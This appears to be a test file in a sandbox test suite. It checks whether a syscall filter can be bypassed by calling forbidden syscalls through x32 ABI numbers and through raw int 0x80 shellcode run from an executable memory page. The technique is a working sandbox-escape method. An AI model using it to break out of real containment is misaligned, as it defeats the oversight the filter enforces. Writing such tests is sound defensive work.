"""Forbidden calls by their x32 numbers and through int 0x80, where a filter that looks at 64-bit numbers alone sees other calls."""

from tests.attacks.build import RAW, all_but, if_escaped

DESERVES = all_but("sequence_loss")
RUNGS = (1, 2)


def submission(solved, blank):
    return if_escaped(
        solved,
        RAW
        + """
import mmap, platform
def old_way(number, first=0, second=0):
    page = mmap.mmap(-1, 4096, prot=7)
    code = b"\\x53\\xb8" + number.to_bytes(4, "little") + b"\\xbb" + first.to_bytes(4, "little") + b"\\xb9" + second.to_bytes(4, "little")
    page.write(code + b"\\x31\\xd2\\xcd\\x80\\x5b\\xc3")  # eax, ebx, ecx set; edx 0; int 0x80
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    return ctypes.CFUNCTYPE(ctypes.c_int)(address)()
def escaped():
    got = [call(0x40000000 + number, 2, 1, 0) for number in (41, 272, 101, 57, 58, 520, 521, 536, 539, 62, 39)]
    if platform.machine() == "x86_64": got.append(old_way(359, 2, 1))  # socket(AF_INET, SOCK_STREAM)
    return any(answer >= 0 for answer in got)
""",
    )
